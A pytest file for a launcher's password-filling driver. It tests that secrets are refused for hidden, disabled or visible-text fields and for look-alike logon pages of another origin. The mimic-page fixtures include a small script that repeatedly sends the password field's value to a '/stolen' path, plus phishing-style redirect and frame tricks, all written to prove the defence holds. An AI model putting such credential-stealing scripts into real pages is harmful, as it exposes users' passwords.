"""What must never be given a password: fields that cannot hide or hold it, and pages of another origin."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from launcher.recipes.steps import Place
from launcher.secret import Secret
from launcher.sign_on.driver import FieldFault, WrongOriginError
from tests.shell.surfaces.conftest import Desk
from tests.shell.surfaces.site import LOGON, Site, to

pytestmark = pytest.mark.usefixtures("qapp")


@pytest.mark.parametrize(
    ("field", "says"),
    [
        ("<p>none</p>", "is not on the page"),
        ("<input id=f type=password style='display:none'>", "is not visible"),
        ("<div style='visibility:hidden'><input id=f type=password></div>", "is not visible"),
        ("<input id=f type=password style='position:absolute;width:0;height:0;border:0;padding:0'>", "is not visible"),
        ("<input id=f type=password disabled>", "cannot be used"),
        ("<fieldset disabled><input id=f type=password></fieldset>", "cannot be used"),
        ("<input id=f type=password readonly>", "cannot be used"),
        ("<input id=f type=hidden>", "is not visible"),
        ("<input id=f type=file>", "is not a field to type into"),
        ("<div id=f contenteditable>x</div>", "is not a field to type into"),
        ("<input id=f type=text>", "would show what is typed"),
        ("<textarea id=f></textarea>", "would show what is typed"),
        ("<input id=f type=password oninput='this.value=1'>", "did not keep its value"),
    ],
)
def test_a_field_that_cannot_take_a_password_gets_none(
    desk: Desk, site: Site, field: str, says: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.shell.surfaces.written_page.FILL_WITHIN_S", 0.3)
    site.pages["/"] = field
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    with pytest.raises(FieldFault, match=says) as caught:
        desk.run(page.fill("#f", Secret("hunter2"), hides=True))
    assert "hunter2" not in repr(caught.value.args) + caught.value.detail


def test_a_page_of_another_origin_that_looks_like_the_logon_gets_nothing(
    desk: Desk, site: Site, new_site: Callable[[], Site]
) -> None:
    mimic = new_site()
    mimic.pages |= {"/": LOGON, "/logon": "thanks"}
    site.pages["/"] = to(mimic["/"])
    page = desk.open(site["/"], site.origin, visits=(mimic.origin,))  # it may even be visited
    desk.run(page.load(site["/"]))
    assert desk.run(page.first_of([Place(selector="#pass")], 5.0)) is not None
    with pytest.raises(WrongOriginError):
        desk.run(page.fill("#pass", Secret("hunter2"), hides=True))
    assert all("hunter2" not in str(request) for request in mimic.asked)


def test_a_mimic_in_a_frame_gets_nothing(
    desk: Desk, site: Site, new_site: Callable[[], Site], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("launcher.shell.surfaces.written_page.FILL_WITHIN_S", 0.3)
    mimic = new_site()
    mimic.pages["/"] = LOGON + "<script>parent.postMessage('here', '*')</script>"
    site.pages["/"] = f"""<script>addEventListener('message', () => document.title = 'framed')</script>
        <iframe src='{mimic["/"]}'></iframe>"""
    page = desk.open(site["/"], site.origin)
    desk.run(page.load(site["/"]))
    desk.until(lambda: "framed" in page.last_seen())
    with pytest.raises(FieldFault, match="is not on the page"):
        desk.run(page.fill("#pass", Secret("hunter2"), hides=True))


def test_a_page_that_moves_between_look_and_fill_gets_nothing(
    desk: Desk, site: Site, new_site: Callable[[], Site]
) -> None:
    """Round after round the page goes elsewhere at another moment; only its own origin is ever filled."""
    mimic = new_site()
    mimic.pages |= {
        "/": LOGON + "<script>setInterval(() => fetch('/stolen?' + document.getElementById('pass').value), 5)</script>"
    }
    refused = 0
    page = desk.open(site["/"], site.origin, visits=(mimic.origin,))
    for moment in (0, 1, 2, 4, 8, 16, 32):
        site.pages["/"] = LOGON + f"<script>setTimeout(() => location = '{mimic['/']}', {moment})</script>"
        desk.run(page.load(site["/"]))
        desk.run(page.first_of([Place(selector="#pass")], 5.0))
        try:
            for _ in range(20):
                desk.run(page.fill("#pass", Secret("hunter2"), hides=True))
        except WrongOriginError:
            refused += 1
    assert refused > 0
    assert all("hunter2" not in request.query for request in mimic.asked)
